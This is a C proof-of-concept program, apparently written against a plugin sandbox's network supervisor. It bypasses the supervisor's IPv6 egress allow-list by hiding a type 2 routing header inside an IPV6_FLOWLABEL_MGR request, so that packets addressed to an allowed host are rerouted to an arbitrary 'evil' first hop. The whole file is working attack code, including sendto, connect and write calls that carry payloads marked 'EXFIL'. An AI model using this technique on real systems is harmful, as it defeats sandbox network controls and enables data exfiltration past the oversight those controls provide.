#define _GNU_SOURCE
/* network.http bypass (IPv6 UDP): a routing header carried by a *flow label*
 * (setsockopt IPV6_FLOWLABEL_MGR, level 41 option 32: not on the refused
 * list) instead of IPV6_RTHDR. The label's options are a cmsg buffer the
 * kernel parses at setsockopt time (ip6_datagram_send_ctl): a type 2 routing
 * header whose one address becomes the packet's destination. The plugin
 * turns IPV6_FLOWINFO_SEND on and puts the label in sin6_flowinfo of the
 * allowed address; the supervisor copies the whole sockaddr and sends
 * (sendto) / connects with it, so the datagram leaves for FIRSTHOP.
 * usage: flowlabel ALLOWED_IP6 PORT FIRSTHOP_IP6 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/in6.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#ifndef IPV6_FLOWLABEL_MGR
#define IPV6_FLOWLABEL_MGR 32
#define IPV6_FLOWINFO_SEND 33
#endif
#ifndef IPV6_RTHDR
#define IPV6_RTHDR 57
#endif
int main(int argc, char **argv)
{
	if (argc < 4) return 2;
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(argv[2]))};
	inet_pton(AF_INET6, argv[1], &dst.sin6_addr);
	struct in6_addr evil;
	inet_pton(AF_INET6, argv[3], &evil);
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	struct sockaddr_in6 e6 = dst; e6.sin6_addr = evil;
	int r = (int)sendto(s, "x", 1, 0, (void *)&e6, sizeof(e6));
	printf("direct sendto %s: %s\n", argv[3], r < 0 ? strerror(errno) : "went out");
	/* the flow label request, then one cmsg: IPV6_RTHDR type 2 -> evil */
	union { char b[256]; struct in6_flowlabel_req f; } u;
	memset(&u, 0, sizeof(u));
	u.f.flr_dst = dst.sin6_addr;
	u.f.flr_label = htonl(0x12345);
	u.f.flr_action = IPV6_FL_A_GET;
	u.f.flr_share = IPV6_FL_S_EXCL;
	u.f.flr_flags = IPV6_FL_F_CREATE;
	u.f.flr_linger = 0; u.f.flr_expires = 0;
	size_t off = CMSG_ALIGN(sizeof(struct in6_flowlabel_req));
	struct cmsghdr *c = (void *)(u.b + off);
	unsigned char rh[24] = {0};
	rh[0] = 0 /* next header, filled by the kernel */; rh[1] = 2 /* hdrlen */;
	rh[2] = 2 /* type 2 */; rh[3] = 1 /* segments left */;
	memcpy(rh + 8, &evil, 16);
	c->cmsg_len = CMSG_LEN(sizeof(rh)); c->cmsg_level = IPPROTO_IPV6; c->cmsg_type = IPV6_RTHDR;
	memcpy(CMSG_DATA(c), rh, sizeof(rh));
	size_t len = off + CMSG_SPACE(sizeof(rh));
	if (setsockopt(s, IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, u.b, (socklen_t)len) < 0) {
		perror("IPV6_FLOWLABEL_MGR"); return 1;
	}
	int one = 1;
	if (setsockopt(s, IPPROTO_IPV6, IPV6_FLOWINFO_SEND, &one, sizeof(one)) < 0) {
		perror("IPV6_FLOWINFO_SEND"); return 1;
	}
	dst.sin6_flowinfo = htonl(0x12345);
	r = (int)sendto(s, "EXFIL-flowlbl-sendto", 20, 0, (void *)&dst, sizeof(dst));
	printf("flow-labelled sendto allowed [%s]:%s: %s\n", argv[1], argv[2], r < 0 ? strerror(errno) : "sent");
	r = connect(s, (void *)&dst, sizeof(dst));
	printf("flow-labelled connect allowed [%s]:%s: %s\n", argv[1], argv[2], r < 0 ? strerror(errno) : "connected");
	r = (int)write(s, "EXFIL-flowlbl-write", 19);
	printf("write on the connected socket: %s\n", r < 0 ? strerror(errno) : "sent");
	sleep(1);
	return 0;
}
